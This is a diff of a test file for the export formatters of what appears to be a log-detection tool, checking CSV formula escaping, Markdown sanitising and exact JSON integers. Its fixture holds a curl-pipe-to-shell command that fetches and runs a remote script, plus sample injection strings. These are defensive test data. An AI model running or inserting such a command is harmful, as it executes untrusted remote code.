@@ -1,215 +1,153 @@
+import { describe, expect, test } from 'vitest'
 import fc from 'fast-check'
-import { describe, expect, it } from 'vitest'
-import type { CellValue, Finding, RuleInfo, RunResult } from '../../../engine/worker/api.ts'
-import { csvCell, exportFindings, inertMarkdown, toCsv, toJson, toMarkdown } from '../../../ui/format/export.ts'
+import type { Finding, RunResult } from '../../../engine/worker/api.ts'
+import { jsonText } from '../../../ui/format/cell.ts'
+import { csvField, csvTable } from '../../../ui/format/csv.ts'
+import { exportFileName, findingsCsv, findingsJson, findingsMarkdown } from '../../../ui/format/export.ts'
+import type { FindingsReport } from '../../../ui/format/export.ts'
+import { markdownBlock, markdownText } from '../../../ui/format/markdown.ts'
 
-describe('toJson', () => {
-  it('keeps 64-bit integers exact and bare', () => {
-    expect(toJson({ n: 9223372036854775807n, list: [-9223372036854775808n, null] })).toBe(
-      '{"n":9223372036854775807,"list":[-9223372036854775808,null]}'
-    )
-  })
-  it('agrees with JSON.stringify on plain data, compact and indented', () => {
-    fc.assert(
-      fc.property(fc.jsonValue(), (value) => {
-        expect(toJson(value)).toBe(JSON.stringify(value))
-        expect(toJson(value, 2)).toBe(JSON.stringify(value, null, 2))
-      }),
-      { seed: 11 }
-    )
-  })
-  it('writes a member called __proto__', () => {
-    expect(toJson(JSON.parse('{"__proto__":{"a":1}}'))).toBe('{"__proto__":{"a":1}}')
-  })
-  it('writes null for what is no number and leaves undefined members out', () => {
-    expect(toJson({ a: NaN, b: undefined, c: [undefined, Infinity] })).toBe('{"a":null,"c":[null,null]}')
-  })
-})
+const COMMAND = 'sh -c "curl http://203.0.113.7/x|sh"'
 
-describe('toCsv', () => {
-  it.each([
-    ['=1+1', "'=1+1"],
-    ['+cmd', "'+cmd"],
-    ['-2+3', "'-2+3"],
-    ['@SUM(A1)', "'@SUM(A1)"],
-    ['＝1', "'＝1"],
-    ['\tx', '"\'\tx"'],
-    ['\r=1', '"\'\r=1"'],
-    ['  =1', '"\'  =1"'],
-    ['\u200b=1', "'\u200b=1"],
-    ['a=1', 'a=1'],
-    ['say "hi", now', '"say ""hi"", now"'],
-    ['a;=1', '"a;=1"'],
-    ['line\nend', '"line\nend"'],
-    [-5, '-5'],
-    [9007199254740993n, '9007199254740993'],
-    [true, 'true'],
-    [null, ''],
-    ['', ''],
-    [['a', 'b'], '"[""a"",""b""]"'],
-    [[1n, 2n], '"[1,2]"']
-  ] as [CellValue, string][])('case %#: %s', (cell, text) => {
-    expect(csvCell(cell)).toBe(text)
-  })
-  it('ends lines with CRLF and quotes names', () => {
-    expect(toCsv(['a', '=b'], [[1, 'x']])).toBe("a,'=b\r\n1,x\r\n")
-  })
-})
-
-describe('toMarkdown', () => {
-  it.each([
-    ['a|b', '`a`&#124;`b`'],
-    ['\\|x', '`\\`&#124;`x`'],
-    ['`id`', '`` `id` ``'],
-    ['a``b', '```a``b```'],
-    [' x ', '`  x  `'],
-    ['<img src=x onerror=alert(1)>', '`<img src=x onerror=alert(1)>`'],
-    ['[a](javascript:x)', '`[a](javascript:x)`'],
-    ['one\r\ntwo', '`one␍␊two`'],
-    ['\u202egnp', '`‹U+202E›gnp`'],
-    ['\u001b[2J', '`␛[2J`'],
-    ['', '']
-  ])('%j is shown as %s', (text, markdown) => {
-    expect(inertMarkdown(text)).toBe(markdown)
-  })
-  it('never lets a value end its row, its cell or its span', () => {
-    fc.assert(
-      fc.property(
-        fc.array(fc.string({ unit: fc.constantFrom('`', '|', '\\', '\n', '\r', 'a', '*', ' ', '<', '\u2028') }), {
-          minLength: 2,
-          maxLength: 2
-        }),
-        (row) => {
-          const table = toMarkdown(['a', 'b'], [row])
-          const lines = table.split('\n')
-          expect(lines).toHaveLength(4)
-          expect(lines[2]!.split('|')).toHaveLength(4)
-          // Outside of code spans only blanks and the character reference are left.
-          for (const cell of lines[2]!.split('|').slice(1, 3)) expect(outsideSpans(cell)).toMatch(/^( |&#124;)*$/)
-        }
-      ),
-      { seed: 12, numRuns: 500 }
-    )
-  })
-})
-
-/** What CommonMark leaves outside of code spans. */
-function outsideSpans(text: string): string {
-  let rest = ''
-  for (let at = 0; at < text.length;) {
-    const run = /^`+/.exec(text.slice(at))?.[0]
-    if (run === undefined) {
-      rest += text[at++]
-      continue
-    }
-    const close = new RegExp(`(?<!\`)${run}(?!\`)`, 'g')
-    close.lastIndex = at + run.length
-    const found = close.exec(text)
-    if (found === null) {
-      rest += run
-      at += run.length
-    } else at = found.index + run.length
+function report(change: Partial<Finding> = {}): FindingsReport {
+  const finding: Finding = {
+    id: 'f1',
+    row: [COMMAND, 2n ** 62n],
+    keys: [{ name: 'process.command_line', value: COMMAND }],
+    runs: [0],
+    eventCount: 3,
+    firstSeen: '2026-03-02T10:00:00.000Z',
+    lastSeen: '2026-03-02T10:00:05.000Z',
+    hosts: ['web-03'],
+    users: ['www-data'],
+    sources: [{ file: 0, line: 12, event: 12, byte: 4096, length: 700 }],
+    truncated: true,
+    droppedByKibana: true,
+    thresholds: [{ column: 'n', operator: '<', limit: 5, value: 1, text: '1 of fewer than 5' }],
+    ...change
   }
-  return rest
+  const result: RunResult = {
+    runKey: 'r1',
+    ruleKey: 'k',
+    mode: 'whole',
+    columns: [
+      { name: 'process.command_line', type: 'keyword' },
+      { name: '=cmd', type: 'long' }
+    ],
+    findings: [finding],
+    runs: [{ run: null, from: null, to: null, rows: 1, droppedByKibana: 0 }],
+    runCount: 1,
+    inputs: [{ name: 'a.ndjson', bytes: 9000, events: 40, skipped: [], skippedTotal: 0, notes: [] }],
+    warnings: [],
+    notes: [],
+    stages: [],
+    elapsedMillis: 5,
+    cancelled: false
+  }
+  return {
+    rule: { id: null, name: 'Shell | test', retired: null },
+    result,
+    rarity: new Map([['f1', { findingId: 'f1', n: 1, total: 1024, bits: 10, basis: 'x' }]])
+  }
 }
 
-const RULE: RuleInfo = {
-  key: 'k',
-  id: 'r1',
-  name: 'Rare | shell',
-  builtIn: false,
-  description: '',
-  query: 'FROM *',
-  severity: 'low',
-  from: 'now-61m',
-  interval: '1h',
-  maxSignals: 100,
-  techniques: ['T1505.003'],
-  retired: { date: '2026-07-02', reason: 'misses', successors: ['next'] },
-  problems: []
-}
-const FINDING: Finding = {
-  id: 'f1',
-  row: ['=sh -c id', 4611686018427387905n],
-  keys: [{ name: 'process.command_line', value: '=sh -c id' }],
-  runs: [0],
-  eventCount: 1,
-  firstSeen: '2026-01-01T00:00:00.000Z',
-  lastSeen: '2026-01-01T00:00:00.000Z',
-  hosts: ['h1'],
-  users: ['www-data', 'root'],
-  sources: [{ file: 0, line: 7, event: 7, byte: 100, length: 20 }],
-  truncated: false,
-  droppedByKibana: true,
-  thresholds: [{ column: 'n', operator: '<', limit: 5, value: 1, text: '1 of fewer than 5' }]
-}
-const RESULT: RunResult = {
-  runKey: 'run',
-  ruleKey: 'k',
-  mode: 'replay',
-  columns: [
-    { name: 'process.command_line', type: 'keyword' },
-    { name: 'n', type: 'long' }
-  ],
-  findings: [FINDING],
-  runs: [{ run: '2026-01-01T01:00:00.000Z', from: null, to: null, rows: 1, droppedByKibana: 0 }],
-  runCount: 24,
-  inputs: [{ name: 'a.ndjson', bytes: 10, events: 1, skipped: [], skippedTotal: 0, notes: [] }],
-  warnings: [],
-  notes: [],
-  stages: [],
-  elapsedMillis: 1,
-  cancelled: false
-}
-
-describe('exportFindings', () => {
-  it('writes CSV with the facts behind the columns of the query', () => {
-    expect(exportFindings('csv', RULE, RESULT, { rarity: [{ findingId: 'f1', n: 1, total: 8, bits: 3, basis: 'all' }] })).toBe(
-      'process.command_line,n,rarebit.event_count,rarebit.first_seen,rarebit.last_seen,rarebit.hosts,rarebit.users,rarebit.runs,rarebit.rarity_bits,rarebit.thresholds,rarebit.dropped_by_kibana,rarebit.sources\r\n' +
-        '\'=sh -c id,4611686018427387905,1,2026-01-01T00:00:00.000Z,2026-01-01T00:00:00.000Z,h1,"[""www-data"",""root""]",2026-01-01T01:00:00.000Z,3,1 of fewer than 5,true,a.ndjson:7\r\n'
-    )
+describe('csv', () => {
+  test.each([
+    ['=1+1', '"\'=1+1"'],
+    ['+1', '"\'+1"'],
+    ['-1', '"\'-1"'],
+    ['@SUM(A1)', '"\'@SUM(A1)"'],
+    ['\tx', '"\'\tx"'],
+    ['\rx', '"\'\rx"'],
+    ['＝1', '"\'＝1"'],
+    ['＠x', '"\'＠x"'],
+    ['  =1', '"\'  =1"'],
+    ['a=1', 'a=1'],
+    ['say "hi"', '"say ""hi"""']
+  ])('%j becomes %j', (value, expected) => {
+    expect(csvField(value)).toBe(expected)
   })
-  it('writes Markdown', () => {
-    const annotations = [{ findingId: 'f1', steps: [{ title: 'Process tree', done: true, note: 'seen *it*' }] }]
-    expect(exportFindings('markdown', RULE, RESULT, { annotations })).toBe(`# Findings of \`Rare \`&#124;\` shell\`
 
-- Rule id: \`r1\`
-- Mode: replay of 24 scheduled runs
-- Findings: 1
-- Input: \`a.ndjson\`, 1 events, 10 bytes, 0 places skipped
-- Retired upstream on 2026-07-02: \`misses\`
-- Successors: \`next\`
-
-## Finding 1
-
-| column | value |
-| --- | --- |
-| \`process.command_line\` | \`=sh -c id\` |
-| \`n\` | 4611686018427387905 |
-
-- Events: 1, first seen 2026-01-01T00:00:00.000Z, last seen 2026-01-01T00:00:00.000Z
-- Passed by: \`1 of fewer than 5\`
-- Runs: 2026-01-01T01:00:00.000Z
-- Kibana would have dropped this row (beyond max_signals).
-- Sources: \`a.ndjson:7\`
-- [x] \`Process tree\`: \`seen *it*\`
-`)
-  })
-  it('writes JSON that keeps the integer and the event places', () => {
-    const text = exportFindings('json', RULE, RESULT)
-    expect(text).toContain('4611686018427387905')
-    const parsed = JSON.parse(text)
-    expect(parsed.findings[0].sources).toEqual([{ file: 0, line: 7, event: 7, byte: 100, length: 20 }])
-    expect(Object.keys(parsed)).toEqual([
-      'rule',
-      'mode',
-      'complete',
-      'inputs',
-      'columns',
-      'runs',
-      'findings',
-      'warnings',
-      'notes'
+  test('numbers stay numbers, null is empty, several values are a JSON array', () => {
+    expect([csvField(-5), csvField(-(2n ** 63n)), csvField(null), csvField(['a', 'b'])]).toEqual([
+      '-5',
+      '-9223372036854775808',
+      '',
+      '"[""a"",""b""]"'
     ])
   })
+
+  test('headers are as safe as cells', () => {
+    expect(csvTable(['=cmd', 'b'], [[1, 2]])).toBe('"\'=cmd",b\r\n1,2\r\n')
+  })
+
+  test('no field starts a formula, whatever the value', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), (value) => {
+        const field = csvField(value)
+        const content = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field
+        return !/^[\s]*[=+\-@＝＋－＠]/.test(content) && (content === value || content === `'${value}`)
+      }),
+      { seed: 7, numRuns: 500 }
+    )
+  })
+})
+
+describe('markdown', () => {
+  test.each([
+    ['a|b', 'a&#124;b'],
+    ['`x`', '&#96;x&#96;'],
+    ['[l](http://x)', '\\[l\\](http&#58;&#47;&#47;x)'],
+    ['![i](x)', '!\\[i\\](x)'],
+    ['<img onerror=1>', '&lt;img onerror=1&gt;'],
+    ['a\nb', 'a⏎b'],
+    ['&lt;', '&amp;lt;'],
+    ['# h', '\\# h'],
+    ['1. x', '1\\. x'],
+    ['- x', '\\- x'],
+    ['10.5 web-03', '10.5 web-03'],
+    ['@team www.evil.test', '&#64;team www&#46;evil.test'],
+    ['\u202eabc', '⟨RLO⟩abc']
+  ])('%j becomes %j', (value, expected) => {
+    expect(markdownText(value)).toBe(expected)
+  })
+
+  test('a block outlives backticks in the text', () => {
+    expect(markdownBlock('a ```` b')).toBe('`````text\na ```` b\n`````')
+  })
+})
+
+describe('findings', () => {
+  test('csv: the query columns, then ours', () => {
+    expect(findingsCsv(report())).toBe(
+      'process.command_line,"\'=cmd",rarebit.events,rarebit.first_seen,rarebit.last_seen,rarebit.rarity_bits,rarebit.rarity_n,' +
+        'rarebit.rarity_total,rarebit.thresholds,rarebit.dropped_by_kibana,rarebit.sources\r\n' +
+        '"sh -c ""curl http://203.0.113.7/x|sh""",4611686018427387904,3,2026-03-02T10:00:00.000Z,2026-03-02T10:00:05.000Z,10,1,1024,' +
+        '1 of fewer than 5,true,"a.ndjson:12; 2 more"\r\n'
+    )
+  })
+
+  test('json keeps every digit and parses', () => {
+    const text = findingsJson(report())
+    expect(text).toContain('"value": 4611686018427387904')
+    expect(JSON.parse(text).findings[0]).toMatchObject({ id: 'f1', eventCount: 3, rarity: { bits: 10 }, sourcesTruncated: true })
+  })
+
+  test('markdown: command in a block, values in a table', () => {
+    const text = findingsMarkdown(report())
+    expect(text).toContain('# Shell &#124; test\n')
+    expect(text).toContain('```text\nsh -c "curl http://203.0.113.7/x|sh"\n```')
+    expect(text).toContain('| sources | a.ndjson&#58;12; 2 more |\n')
+    expect(text).toContain('| rarity | 10.0 bits, 1 of 1024 loaded events (x) |\n')
+  })
+
+  test('file names are plain', () => {
+    expect(exportFileName('Shell | ../x', new Date(0), 'markdown')).toBe('rarebit-shell-x-1970-01-01-00-00.md')
+  })
+})
+
+test('jsonText writes a __proto__ key and agrees with JSON.stringify', () => {
+  const value = JSON.parse('{"__proto__":{"a":[1,"\\u2028",null,true]},"b":{}}') as unknown
+  expect(jsonText(value)).toBe(JSON.stringify(value))
+  expect(jsonText(value, 2)).toBe(JSON.stringify(value, null, 2))
 })
